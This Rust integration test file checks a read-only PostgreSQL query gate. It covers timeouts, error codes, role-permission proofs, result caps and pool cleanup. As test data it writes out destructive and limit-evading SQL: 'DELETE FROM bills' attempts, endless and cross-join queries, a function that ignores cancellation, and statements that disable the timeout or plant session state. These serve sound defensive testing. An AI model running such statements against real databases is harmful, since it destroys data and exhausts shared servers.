                    wrong.push(format!("{sql}: no rows, so it proves nothing"));
                }
                if let Err(difference) = same_rows(sql, &left, &right) {
                    wrong.push(difference);
                }
            }
            (left, right) => wrong.push(format!(
                "{sql} failed:\n  sqlite   {:?}\n  postgres {:?}",
                left.is_ok().then_some("ok").ok_or(&left),
                right.is_ok().then_some("ok").ok_or(&right)
            )),
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[tokio::test]
async fn pg_runaway_query_is_cancelled_by_statement_timeout() {
    let Some((scratch, _report)) =
        Scratch::with_demo("pg_runaway_query_is_cancelled_by_statement_timeout").await
    else {
        return;
    };
    let timeout = Duration::from_secs(1);
    let gate = open_gate(&scratch.superuser_url(), with_timeout(timeout)).await;
    for sql in [
        "WITH RECURSIVE forever(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM forever) SELECT count(*) FROM forever",
        "SELECT count(*) FROM bill_items a, bill_items b, bill_items c",
    ] {
        let started = Instant::now();
        let outcome = gate.run_query(sql).await;
        let elapsed = started.elapsed();
        match outcome {
            QueryOutcome::Failed(error) => {
                assert_eq!(error.error_type, ErrorType::Timeout, "{sql}: {error}");
                assert_eq!(error.sqlstate.as_deref(), Some("57014"), "{sql}");
                assert!(error.message.contains("statement timeout"), "{}", error.message);
            }
            QueryOutcome::Rows(rows) => panic!("{sql} finished: {:?}", rows.rows),
        }
        assert!(
            elapsed >= timeout && elapsed < timeout + Duration::from_millis(1500),
            "{sql} took {elapsed:?}"
        );
    }
    // The same gate answers right after, and nothing is left running.
    let QueryOutcome::Rows(one) = gate.run_query("SELECT 1 AS one").await else {
        panic!("SELECT 1 failed after the timeout");
    };
    assert_eq!(one.rows, vec![vec![json!(1)]]);
    // A cancelled backend reports its error before its parallel workers have all
    // exited, so "nothing is left running" is asked until it holds or five seconds pass:
    // a runaway would still be there after them.
    let admin = scratch.admin_in_database().await;
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let still_running: Vec<String> = admin
            .query(
                "SELECT backend_type || ': ' || coalesce(query, '') FROM pg_stat_activity \
                 WHERE datname = current_database() AND state = 'active' \
                 AND pid <> pg_backend_pid()",
                &[],
            )
            .await
            .expect("pg_stat_activity")
            .iter()
            .map(|row| row.get(0))
            .collect();
        if still_running.is_empty() {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "cancelled statements are still running: {still_running:?}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

#[tokio::test]
async fn pg_errors_carry_sqlstate_message_hint_and_position() {
    let Some((_scratch, report)) =
        Scratch::with_demo("pg_errors_carry_sqlstate_message_hint_and_position").await
    else {
        return;
    };
    let gate = open_gate(report.read_only.connection_url(), GateOptions::default()).await;

    let QueryOutcome::Failed(error) = gate.run_query("SELECT cust_nme FROM customers").await else {
        panic!("unknown column ran");
    };
    assert_eq!(error.error_type, ErrorType::UnknownColumn);
    assert_eq!(error.sqlstate.as_deref(), Some("42703"));
    assert_eq!(error.position, Some(8), "{error:?}");
    assert!(error.message.contains("cust_nme"), "{}", error.message);
    assert!(
        error
            .hint
            .as_deref()
            .is_some_and(|hint| hint.contains("cust_name")),
        "{error:?}"
    );
    assert!(error.repairable);
    assert_eq!(error.sql, "SELECT cust_nme FROM customers LIMIT 200");
    let json = serde_json::to_value(&error).expect("serialises");
    assert_eq!(json["ok"], json!(false));
    assert_eq!(json["error_type"], json!("unknown_column"));
    assert_eq!(json["sqlstate"], json!("42703"));
    assert_eq!(json["position"], json!(8));

    let QueryOutcome::Failed(error) = gate
        .run_query("SELECT status FROM bills b JOIN purchase_orders po ON po.supp_id = b.emp_id")
        .await
    else {
        panic!("ambiguous column ran");
    };
    assert_eq!(error.error_type, ErrorType::AmbiguousColumn, "{error:?}");
    assert_eq!(error.sqlstate.as_deref(), Some("42702"));
    assert_eq!(error.position, Some(8));
    assert!(error.message.contains("status"), "{}", error.message);

    for (sql, error_type, sqlstate) in [
        (
            "SELECT bill_no FROM bills WHERE bill_id = 'abc'",
            ErrorType::TypeMismatch,
            "22P02",
        ),
        ("SELECT 1 / 0 AS x", ErrorType::DivisionByZero, "22012"),
        (
            "SELECT status, count(*) FROM bills",
            ErrorType::GroupingError,
            "42803",
        ),
        (
            // A listed function with arguments it has no form for: the guard allows
            // only listed functions, so an unknown name never reaches the server.
            "SELECT lower(bill_id, 2) FROM bills",
            ErrorType::UnknownFunction,
            "42883",
        ),
        (
            "SELECT (SELECT bill_id FROM bills) AS one",
            ErrorType::CardinalityViolation,
            "21000",
        ),
    ] {
        let QueryOutcome::Failed(error) = gate.run_query(sql).await else {
            panic!("{sql} ran");
        };
        assert_eq!(error.error_type, error_type, "{sql}: {error:?}");
        assert_eq!(error.sqlstate.as_deref(), Some(sqlstate), "{sql}");
        assert!(!error.message.is_empty());
    }
    // Below the guard, the server's own parser reports syntax errors and unknown
    // tables with their positions too.
    let failure = gate
        .execute("SELECT * FROM bill")
        .await
        .expect_err("no table bill");
    assert_eq!(failure.error_type, ErrorType::UnknownTable);
    assert_eq!(failure.sqlstate.as_deref(), Some("42P01"));
    assert_eq!(failure.position, Some(15));
    let failure = gate
        .execute("SELECT FROM WHERE")
        .await
        .expect_err("syntax error");
    assert_eq!(failure.error_type, ErrorType::SyntaxError);
    assert_eq!(failure.sqlstate.as_deref(), Some("42601"));
    assert!(failure.position.is_some());
}

#[tokio::test]
async fn pg_db_setup_is_idempotent_and_its_proofs_pass() {
    let Some(scratch) = Scratch::named("pg_db_setup_is_idempotent_and_its_proofs_pass").await
    else {
        return;
    };
    let mut options = scratch.options();
    options.read_only_role.password = Some(Password::new("it's a \"given\" p@ss"));
    let first = admin::setup(&options).await.expect("first setup");
    assert!(first.database_created);
    assert!(!first.read_only.password_generated);
    assert!(first.log.password_generated);
    assert_eq!(first.read_only.password.expose(), "it's a \"given\" p@ss");
    assert!(!first.read_only.display_url().contains("p@ss"));
    assert!(!first
        .log
        .display_url()
        .contains(first.log.password.expose()));
    assert!(!format!("{first:?}").contains(first.log.password.expose()));
    let generated = crate::demo::generate();
    assert_eq!(first.tables.len(), generated.len());
    for ((name, rows), table) in first.tables.iter().zip(&generated) {
        assert_eq!((name.as_str(), *rows), (table.def.name, table.rows.len()));
    }
    let admin = scratch.admin_in_database().await;
    let data_after_first = checksums(&admin).await;
    // The log is history: a second run keeps it.
    admin
        .execute(
            "INSERT INTO askdb_query_log (question, decision) VALUES ('kept?', 'test')",
            &[],
        )
        .await
        .expect("admin writes the log");

    options.read_only_role.password = None;
    let second = admin::setup(&options).await.expect("second setup");
    assert!(!second.database_created);
    assert!(second.read_only.password_generated);
    assert_ne!(first.log.password, second.log.password);
    let admin = scratch.admin_in_database().await;
    assert_eq!(
        data_after_first,
        checksums(&admin).await,
        "re-running changed the data"
    );
    let kept: i64 = admin
        .query_one(
            "SELECT count(*) FROM askdb_query_log WHERE question = 'kept?'",
            &[],
        )
        .await
        .expect("log readable by admin")
        .get(0);
    assert_eq!(kept, 1);
    // Sequences continue after the largest id.
    let next: i32 = admin
        .query_one(
            "SELECT nextval(pg_get_serial_sequence('bills', 'bill_id'))::int - max(bill_id) FROM bills",
            &[],
        )
        .await
        .expect("sequence")
        .get(0);
    assert_eq!(next, 1);
    let settings: Vec<String> = admin
        .query_one(
            "SELECT rolconfig FROM pg_roles WHERE rolname = $1",
            &[&scratch.read_only_role],
        )
        .await
        .expect("role settings")
        .get(0);
    assert!(
        settings.contains(&"default_transaction_read_only=on".to_string())
            && settings.iter().any(|s| s.starts_with("statement_timeout=")),
        "{settings:?}"
    );

    // Both proofs passed, and they are the attempts the roles must fail at.
    let attempts: Vec<(&str, &str)> = second
        .proofs
        .iter()
        .map(|proof| (proof.role.as_str(), proof.attempt.as_str()))
        .collect();
    let ro = scratch.read_only_role.as_str();
    let lg = scratch.log_role.as_str();
    for wanted in [
        (ro, "DELETE FROM \"bills\""),
        (ro, "SELECT count(*) FROM \"askdb_query_log\""),
        (lg, "SELECT count(*) FROM \"bills\""),
        (lg, "SELECT count(*) FROM \"askdb_query_log\""),
        (lg, "DELETE FROM \"askdb_query_log\""),
    ] {
        assert!(
            attempts.contains(&wanted),
            "{wanted:?} missing from {attempts:?}"
        );
    }
    assert!(second
        .proofs
        .iter()
        .filter(|proof| proof.attempt.starts_with("DELETE"))
        .all(|proof| proof.outcome.starts_with("refused")));

    // askdb_ro cannot read the log, and the gate neither lists nor passes it.
    let ro_client = pg_connect(second.read_only.connection_url())
        .await
        .expect("askdb_ro logs in with the reported URL");
    let error = ro_client
        .query("SELECT count(*) FROM askdb_query_log", &[])
        .await
        .expect_err("the log is unreadable");
    assert_eq!(error.code().map(|code| code.code()), Some("42501"));
    let gate = open_gate(second.read_only.connection_url(), GateOptions::default()).await;
    let tables: Vec<String> = gate.list_tables().into_iter().map(|t| t.name).collect();
    assert_eq!(tables.len(), 15, "{tables:?}");
    assert!(!tables.iter().any(|name| name == QUERY_LOG_TABLE));
    assert!(gate.describe_table(QUERY_LOG_TABLE).is_err());
    let QueryOutcome::Failed(refused) = gate.run_query("SELECT * FROM askdb_query_log").await
    else {
        panic!("the gate read the log");
    };
    assert_eq!(refused.reason, Some(RefusalReason::UnknownTable));
    let failure = gate
        .execute("SELECT count(*) FROM askdb_query_log")
        .await
        .expect_err("the role refuses the log");
    assert_eq!(failure.error_type, ErrorType::PermissionDenied);
    assert_eq!(failure.sqlstate.as_deref(), Some("42501"));
}

#[tokio::test]
async fn pg_a_wrong_grant_fails_the_proof() {
    let Some((scratch, report)) = Scratch::with_demo("pg_a_wrong_grant_fails_the_proof").await
    else {
        return;
    };
    let admin = scratch.admin_in_database().await;
    let log = format!("\"{}\"", scratch.log_role);
    let ro = format!("\"{}\"", scratch.read_only_role);

    admin
        .execute(format!("GRANT SELECT ON bills TO {log}").as_str(), &[])
        .await
        .expect("wrong grant");
    let error = admin::prove_roles(&report.read_only, &report.log)
        .await
        .expect_err("the log role can read bills: the proof must fail");
    match &error {
        SetupError::ProofFailed { role, attempt, .. } => {
            assert_eq!(role, &scratch.log_role);
            assert!(attempt.contains("bills"), "{attempt}");
        }
        other => panic!("wrong error: {other}"),
    }
    let message = error.to_string();
    assert!(
        message.contains("proof failed") && message.contains(&scratch.log_role),
        "{message}"
    );
    assert!(!message.contains(report.log.password.expose()));
    admin
        .execute(format!("REVOKE SELECT ON bills FROM {log}").as_str(), &[])
        .await
        .expect("revoke");
    admin::prove_roles(&report.read_only, &report.log)
        .await
        .expect("proofs pass again once the grant is gone");

    // A read-only role that can delete (and is no longer read-only by default) fails
    // its DELETE proof; the attempt is rolled back, so the data stays.
    let before = checksums(&admin).await;
    admin
        .execute(format!("GRANT DELETE ON bill_items TO {ro}").as_str(), &[])
        .await
        .expect("wrong grant");
    admin
        .execute(
            format!("ALTER ROLE {ro} SET default_transaction_read_only = off").as_str(),
            &[],
        )
        .await
        .expect("wrong setting");
    let error = admin::prove_roles(&report.read_only, &report.log)
        .await
        .expect_err("the read-only role is not read-only");
    assert!(
        matches!(&error, SetupError::ProofFailed { role, .. } if role == &scratch.read_only_role),
        "{error}"
    );
    assert_eq!(before, checksums(&admin).await);

    // A full re-run repairs both: grants are rebuilt from nothing.
    admin::setup(&scratch.options())
        .await
        .expect("setup repairs the drift");
}

#[tokio::test]
async fn pg_gate_lists_describes_and_samples_the_demo() {
    let Some((scratch, report)) =
        Scratch::with_demo("pg_gate_lists_describes_and_samples_the_demo").await
    else {
        return;
    };
    let admin = scratch.admin_in_database().await;
    admin
        .execute(
            "CREATE VIEW open_orders AS SELECT po_id, status FROM purchase_orders WHERE status = 'OPEN'",
            &[],
        )
        .await
        .expect("view created");
    // A write puts the first customer's new row version after the others in the heap,
    // where a scan without an order would now meet it last.
    admin
        .execute(
            "UPDATE customers SET cust_id = cust_id WHERE cust_id = (SELECT MIN(cust_id) FROM customers)",
            &[],
        )
        .await
        .expect("a row rewritten");
    let dir = tempfile::tempdir().expect("temp dir");
    let sqlite_path = dir.path().join("demo.sqlite");
    crate::demo::write_sqlite(&sqlite_path).expect("demo builds");
    let sqlite = crate::database::open_gate(
        &crate::database::DatabaseUrl::Sqlite(sqlite_path),
        GateOptions::default(),
    )
    .await
    .expect("SQLite opens");
    let gate = open_gate(report.read_only.connection_url(), GateOptions::default()).await;

    let tables = gate.list_tables();
    let mut names: Vec<String> = tables.iter().map(|t| t.name.clone()).collect();
    assert!(names.contains(&"open_orders".to_string()), "{names:?}");
    names.retain(|name| name != "open_orders");
    let sqlite_names: Vec<String> = sqlite.list_tables().into_iter().map(|t| t.name).collect();
    assert_eq!(names, sqlite_names);
    let summary = |name: &str| {
        tables
            .iter()
            .find(|table| table.name == name)
            .cloned()
            .expect("listed")
    };
    assert_eq!(summary("bills").row_count, Some(1400));
    assert_eq!(summary("open_orders").row_count, None);
    assert!(!summary("bills").description.is_empty(), "demo notes apply");

    let bills = gate.describe_table("bills").expect("bills");
    assert_eq!(bills.primary_key, vec!["bill_id"]);
    let types: BTreeMap<&str, (&str, bool)> = bills
        .columns
        .iter()
        .map(|c| (c.name.as_str(), (c.data_type.as_str(), c.nullable)))
        .collect();
    assert_eq!(types["bill_no"], ("character varying(20)", false));
    assert_eq!(types["cust_id"], ("integer", true));
    assert_eq!(types["txn_dt"], ("timestamp without time zone", false));
    assert_eq!(types["total_amt"], ("numeric(12,2)", false));
    let mut targets: Vec<(String, String, String)> = bills
        .foreign_keys
        .iter()
        .map(|key| {
            (
                key.columns.join(","),
                key.references_table.clone(),
                key.references_columns.join(","),
            )
        })
        .collect();
    targets.sort();
    assert_eq!(
        targets,
        vec![
            ("cust_id".into(), "customers".into(), "cust_id".into()),
            ("emp_id".into(), "employees".into(), "emp_id".into()),
        ]
    );
    let bills_schema = gate
        .schema()
        .iter()
        .find(|table| table.name == "bills")
        .expect("bills");
    assert_eq!(bills_schema.unique, vec![vec!["bill_no".to_string()]]);
    assert!(bills.create_table.contains("PRIMARY KEY (bill_id)"));
    assert!(bills
        .create_table
        .contains("FOREIGN KEY (cust_id) REFERENCES customers (cust_id)"));
    let employees = gate.describe_table("employees").expect("employees");
    assert_eq!(employees.foreign_keys[0].references_table, "employees");

    let customers = gate.describe_table("customers").expect("customers");
    assert!(!customers
        .columns
        .iter()
        .any(|c| c.name == "phone" || c.name == "address"));
    let sample = gate.sample_rows("customers", 5).await.expect("sample");
    assert_eq!(sample.row_count, 5);
    // Samples come in key order whatever the heap holds (they are written into prompts).
    let id_at = sample
        .columns
        .iter()
        .position(|column| column == "cust_id")
        .expect("cust_id sampled");
    let ids: Vec<i64> = sample
        .rows
        .iter()
        .map(|row| row[id_at].as_i64().expect("an integer id"))
        .collect();
    let mut in_order = ids.clone();
    in_order.sort();
    assert_eq!(ids, in_order);
    let QueryOutcome::Rows(lowest) = gate.run_query("SELECT MIN(cust_id) FROM customers").await
    else {
        panic!("query failed");
    };
    assert_eq!(json!(ids[0]), lowest.rows[0][0]);
    // Types read as one spelling whatever the engine calls them.
    assert!(
        bills
            .create_table
            .contains("  bill_no VARCHAR(20) NOT NULL")
            && bills.create_table.contains("  cust_id INT,"),
        "{}",
        bills.create_table
    );
    assert!(!sample
        .columns
        .iter()
        .any(|c| c == "phone" || c == "address"));
    for row in &sample.rows {
        for value in row {
            if let JsonValue::String(text) = value {
                assert!(text.chars().count() <= SAMPLE_TEXT_CHARS, "{text}");
            }
        }
    }

    // The cap: forced by the guard, and counted by the executor (cap + 1 fetched).
    let QueryOutcome::Rows(capped) = gate.run_query("SELECT bill_no FROM bills").await else {
        panic!("query failed");
    };
    assert_eq!((capped.row_count, capped.truncated), (200, true));
    let QueryOutcome::Rows(small) = gate.run_query("SELECT bill_no FROM bills LIMIT 7").await
    else {
        panic!("query failed");
    };
    assert_eq!((small.row_count, small.truncated), (7, false));
    let raw = gate
        .execute("SELECT bill_no FROM bills")
        .await
        .expect("reads");
    assert_eq!((raw.rows.len(), raw.truncated), (200, true));
    let raw = gate
        .execute("SELECT bill_no FROM bills ORDER BY bill_id LIMIT 200")
        .await
        .expect("reads");
    assert_eq!((raw.rows.len(), raw.truncated), (200, false));
    assert_eq!(raw.rows[0], vec![json!("B25-000001")]);
}

#[tokio::test]
async fn pg_values_convert_to_json_by_type() {
    let Some(scratch) = Scratch::empty("pg_values_convert_to_json_by_type").await else {
        return;
    };
    let admin = scratch.admin_in_database().await;
    for ddl in [
        "CREATE TYPE mood AS ENUM ('calm', 'cross')",
        "CREATE DOMAIN positive AS integer CHECK (VALUE > 0)",
    ] {
        admin.execute(ddl, &[]).await.expect("type created");
    }
    let gate = open_gate(&scratch.superuser_url(), GateOptions::default()).await;
    let cases: &[(&str, JsonValue)] = &[
        ("1::int2", json!(1)),
        ("-2::int4", json!(-2)),
        ("9007199254740993::int8", json!(9_007_199_254_740_993_i64)),
        ("1.5::float4", json!(1.5)),
        ("0.1::float8", json!(0.1)),
        ("'NaN'::float8", json!("NaN")),
        ("'-Infinity'::float8", json!("-Infinity")),
        ("12.30::numeric(10,2)", json!(12.3)),
        ("-0.05::numeric", json!(-0.05)),
        ("0::numeric", json!(0)),
        ("100::numeric", json!(100)),
        ("1e-20::numeric", json!(1e-20)),
        (
            "123456789012345678901234567890.123::numeric",
            json!("123456789012345678901234567890.123"),
        ),
        (
            "99999999999999999999::numeric",
            json!("99999999999999999999"),
        ),
        ("'NaN'::numeric", json!("NaN")),
        ("'Infinity'::numeric", json!("Infinity")),
        ("sum(x) FROM (VALUES (1.10), (2.25)) v(x)", json!(3.35)),
        ("true", json!(true)),
        ("'x'::text", json!("x")),
        ("'y'::varchar(5)", json!("y")),
        ("'z'::char(3)", json!("z  ")),
        ("'n'::name", json!("n")),
        ("DATE '2025-03-01'", json!("2025-03-01")),
        ("'infinity'::date", json!("infinity")),
        ("DATE '0044-03-15 BC'", json!("0044-03-15 BC")),
        (
            "TIMESTAMP '2025-03-01 10:20:30'",
            json!("2025-03-01 10:20:30"),
        ),
        (
            "TIMESTAMP '2025-03-01 10:20:30.25'",
            json!("2025-03-01 10:20:30.25"),
        ),
        ("'-infinity'::timestamp", json!("-infinity")),
        (
            "TIMESTAMPTZ '2025-03-01 10:20:30+05:30'",
            json!("2025-03-01 04:50:30+00:00"),
        ),
        ("TIME '23:59:59.5'", json!("23:59:59.5")),
        ("TIMETZ '10:00:00+05:30'", json!("10:00:00+05:30")),
        (
            "INTERVAL '1 year 2 months 3 days 04:05:06'",
            json!("P1Y2M3DT4H5M6S"),
        ),
        ("INTERVAL '-90 seconds'", json!("PT-1M-30S")),
        ("'{\"a\": [1, 2]}'::json", json!({"a": [1, 2]})),
        ("'{\"b\": null}'::jsonb", json!({"b": null})),
        (
            "'a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11'::uuid",
            json!("a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11"),
        ),
        ("'\\x0102'::bytea", json!("<bytea, 2 bytes>")),
        ("ARRAY[1, NULL, 3]", json!([1, null, 3])),
        (
            "ARRAY[['a', 'b'], ['c', 'd']]",
            json!([["a", "b"], ["c", "d"]]),
        ),
        ("'{}'::int4[]", json!([])),
        ("'calm'::mood", json!("calm")),
        ("5::positive", json!(5)),
        ("NULL::integer", JsonValue::Null),
        ("'127.0.0.1'::inet", json!("<inet>")),
        ("'1.5'::money", json!("<money>")),
        ("point(1, 2)", json!("<point>")),
        ("ROW(1, 'a')", json!("<record>")),
        ("ARRAY['127.0.0.1'::inet]", json!(["<inet>"])),
    ];
    let mut wrong = Vec::new();
    for (expression, expected) in cases {
        let sql = format!("SELECT {expression}");
        match gate.execute(&sql).await {
            Ok(rows) if rows.rows == vec![vec![expected.clone()]] => {}
            Ok(rows) => wrong.push(format!("{sql}: {:?}, expected {expected}", rows.rows)),
            Err(failure) => wrong.push(format!("{sql}: failed {failure:?}")),
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// A statement that catches its own cancellation: neither the statement timeout nor
/// the cancel request stops it, as with a function that never checks for interrupts.
const STUBBORN_FUNCTION: &str =
    "CREATE FUNCTION askdb_stubborn() RETURNS int LANGUAGE plpgsql AS $$
    DECLARE started timestamptz := clock_timestamp();
    BEGIN
      WHILE clock_timestamp() < started + interval '60 seconds' LOOP
        BEGIN
          PERFORM pg_sleep(0.05);
        EXCEPTION WHEN query_canceled THEN NULL;
        END;
      END LOOP;
      RETURN 1;
    END $$";

#[tokio::test]
async fn pg_a_statement_that_ignores_its_timeout_ends_in_time_and_its_backend_is_terminated() {
    let Some(scratch) = Scratch::empty(
        "pg_a_statement_that_ignores_its_timeout_ends_in_time_and_its_backend_is_terminated",
    )
    .await
    else {
        return;
    };
    let admin = scratch.admin_in_database().await;
    admin
        .batch_execute(STUBBORN_FUNCTION)
        .await
        .expect("stubborn function");
    let timeout = Duration::from_secs(1);
    let gate = open_gate(&scratch.superuser_url(), with_timeout(timeout)).await;
    let started = Instant::now();
    let failure = gate
        .execute("SELECT askdb_stubborn()")
        .await
        .expect_err("the stubborn statement cannot finish in time");
    let elapsed = started.elapsed();
    assert_eq!(
        failure.error_type,
        ErrorType::Timeout,
        "{}",
        failure.message
    );
    // The caller hears within the statement timeout plus the client's grace of one
    // second (and a little scheduling slack), not after the statement's 60 s.
    assert!(
        elapsed < timeout + executor::postgres::CLIENT_GRACE + Duration::from_millis(500),
        "took {elapsed:?}"
    );
    let running = || async {
        admin
            .query_one(
                "SELECT count(*) FROM pg_stat_activity \
                 WHERE query LIKE '%askdb_stubborn()%' AND pid <> pg_backend_pid()",
                &[],
            )
            .await
            .expect("pg_stat_activity")
            .get::<_, i64>(0)
    };
    // The cancel cannot take (the function catches it) and a closed socket does not
    // stop a statement that never writes to it: only the termination ends it, well
    // before its own 60 s.
    let mut gone = false;
    for _ in 0..100 {
        if running().await == 0 {
            gone = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(
        gone,
        "the stubborn backend was still running 10 s after the timeout"
    );
    // Counted once the executor has seen the backend gone after its termination, which
    // may be a poll after this test saw it.
    let mut counted = false;
    for _ in 0..50 {
        if database_check_counts().backends_terminated >= 1 {
            counted = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(counted, "the termination is counted");
    let QueryOutcome::Rows(one) = gate.run_query("SELECT 1 AS one").await else {
        panic!("the gate stopped answering after the timeout");
    };
    assert_eq!(one.rows, vec![vec![json!(1)]]);
}

#[tokio::test]
async fn pg_a_result_stops_at_its_byte_cap_without_reading_the_rest() {
    let Some(scratch) =
        Scratch::empty("pg_a_result_stops_at_its_byte_cap_without_reading_the_rest").await
    else {
        return;
    };
    let gate = open_gate(
        &scratch.superuser_url(),
        with_timeout(Duration::from_secs(20)),
    )
    .await;
    // Fifty values of 1 MB each, far under the row cap: the byte cap (8 MiB) cuts the
    // result before the ninth, the first that would pass it.
    let rows = gate
        .execute("SELECT repeat('x', 1000000) AS big FROM generate_series(1, 50)")
        .await
        .expect("rows");
    assert_eq!(
        rows.rows.len(),
        8,
        "the ninth would pass 8 MiB and is not decoded"
    );
    assert!(rows.truncated);
    // A result of many small rows still stops at the row cap, and says so.
    let many = gate
        .execute("SELECT n FROM generate_series(1, 1000) AS n")
        .await
        .expect("rows");
    assert_eq!(many.rows.len() as u64, guard::DEFAULT_ROW_CAP);
    assert!(many.truncated);
    let exact = format!(
        "SELECT n FROM generate_series(1, {}) AS n",
        guard::DEFAULT_ROW_CAP
    );
    let exact = gate.execute(&exact).await.expect("rows");
    assert_eq!(exact.rows.len() as u64, guard::DEFAULT_ROW_CAP);
    assert!(!exact.truncated, "exactly the cap is not truncated");
}

#[tokio::test]
async fn pg_pooled_connections_keep_no_session_state() {
    let Some(scratch) = Scratch::empty("pg_pooled_connections_keep_no_session_state").await else {
        return;
    };
    let gate = open_gate(
        &scratch.superuser_url(),
        with_timeout(Duration::from_millis(1500)),
    )
    .await;
    let probe = "SELECT pg_backend_pid() AS pid, current_setting('statement_timeout') AS timeout, \
                 current_setting('lock_timeout') AS lock_wait, current_setting('transaction_read_only') AS ro, \
                 current_setting('search_path') AS path, \
                 (SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND pid = pg_backend_pid()) AS locks, \
                 (SELECT count(*) FROM pg_prepared_statements WHERE from_sql) AS prepared";
    let first = gate.execute(probe).await.expect("probe").rows;
    assert_eq!(
        first[0][1..],
        [
            json!("1500ms"),
            json!("1s"),
            json!("on"),
            json!("\"$user\", public"),
            json!(0),
            json!(0)
        ],
        "{first:?}"
    );
    // Every kind of session state a statement could try to leave behind.
    for sql in [
        "SELECT set_config('statement_timeout', '0', false)",
        "SET search_path = pg_catalog",
        "SET statement_timeout = 0",
        "SELECT pg_advisory_lock(42)",
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
        "PREPARE planted AS SELECT 1",
        "LISTEN planted",
        "DECLARE planted CURSOR WITH HOLD FOR SELECT 1",
    ] {
        let _ = gate.execute(sql).await;
    }
    // A connection goes back to the pool once its cleaning (sent after the caller has
    // its rows) is done: probe until the first connection comes round again.
    let mut second = Vec::new();
    for _ in 0..100 {
        second = gate.execute(probe).await.expect("probe").rows;
        if second[0][0] == first[0][0] {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert_eq!(
        second[0][0], first[0][0],
        "the pool did not reuse the connection"
    );
    assert_eq!(second, first, "session state survived between statements");
}

#[tokio::test]
async fn pg_unreachable_or_missing_database_is_a_connection_error_without_the_password() {
    let error = PostgresExecutor::connect("postgres://askdb_ro:hunter2@127.0.0.1:1/askdb")
        .await
        .err()
        .expect("nothing listens on port 1");
    assert_eq!(error.error_type, ErrorType::ConnectionError);
    assert!(!error.message.contains("hunter2"), "{}", error.message);
    assert!(
        error.message.contains("askdb_ro:***@127.0.0.1:1") && error.message.contains("refused"),
        "{}",
        error.message
    );
    let gate_error = crate::database::open_gate(
        &crate::database::DatabaseUrl::Postgres(
            "postgres://askdb_ro:hunter2@127.0.0.1:1/askdb".into(),
        ),
        GateOptions::default(),
    )
    .await
    .err()
    .expect("fails");
    assert!(!gate_error.to_string().contains("hunter2"), "{gate_error}");
    let error = PostgresExecutor::connect("postgres://u:pw@127.0.0.1:notaport/x")
        .await
        .err()
        .expect("bad URL");
    assert_eq!(error.error_type, ErrorType::ConnectionError);
    assert!(!error.message.contains(":pw@"), "{}", error.message);

    let Some(scratch) =
        Scratch::named("pg_unreachable_or_missing_database_is_a_connection_error").await
    else {
        return;
    };
    let missing = url_with_database(&scratch.admin_url, &scratch.database);
    let error = PostgresExecutor::connect(&missing)
        .await
        .err()
        .expect("the database does not exist");
    assert_eq!(error.error_type, ErrorType::ConnectionError);
    assert!(
        error.message.contains("does not exist"),
        "{}",
        error.message
    );
}

#[tokio::test]
async fn pg_a_caller_that_goes_away_mid_statement_never_hands_its_transaction_on() {
    let Some(scratch) =
        Scratch::empty("pg_a_caller_that_goes_away_mid_statement_never_hands_on").await
    else {
        return;
    };
    let gate = open_gate(
        &scratch.superuser_url(),
        with_timeout(Duration::from_secs(3)),
    )
    .await;
    // The caller stops waiting while the statement sleeps inside its transaction.
    let interrupted = tokio::time::timeout(
        Duration::from_millis(300),
        gate.execute("SELECT pg_sleep(1)"),
    )
    .await;
    assert!(interrupted.is_err(), "the caller gave up first");
    // Every statement after it starts a transaction of its own: had the interrupted
    // connection gone back to the pool, a statement on it would run in the old
    // transaction, begun at least 300 ms before the statement.
    for _ in 0..8 {
        let fresh = gate
            .execute(
                "SELECT statement_timestamp() - transaction_timestamp() < interval '200 milliseconds' AS fresh",
            )
            .await
            .expect("probe");
        assert_eq!(fresh.rows, vec![vec![json!(true)]]);
    }
}

#[tokio::test]
async fn pg_a_result_cut_at_its_byte_cap_stops_the_server_producing_the_rest() {
    let Some(scratch) = Scratch::empty("pg_a_result_cut_at_its_byte_cap_stops_the_server").await
    else {
        return;
    };
    let gate = open_gate(
        &scratch.superuser_url(),
        with_timeout(Duration::from_secs(30)),
    )
    .await;
    // 100 GB of values if read to the end, run below the guard: the executor keeps the
    // first 8 MiB and must not let the server go on producing the rest for the whole
    // statement timeout.
    let huge = "SELECT repeat('x', 1000000) AS big FROM generate_series(1, 100000) AS askdb_huge";
    let rows = gate.execute(huge).await.expect("rows");
    assert!(rows.truncated);
    assert_eq!(rows.rows.len(), 8);
    let admin = scratch.admin_in_database().await;
    let mut still_running = i64::MAX;
    for _ in 0..50 {
        still_running = admin
            .query_one(
                "SELECT count(*) FROM pg_stat_activity WHERE query LIKE '%askdb_huge%' \
                 AND state = 'active' AND pid <> pg_backend_pid()",
                &[],
            )
            .await
            .expect("activity")
            .get(0);
        if still_running == 0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(
        still_running, 0,
        "the server still produces the cut result 5 s later"
    );
}
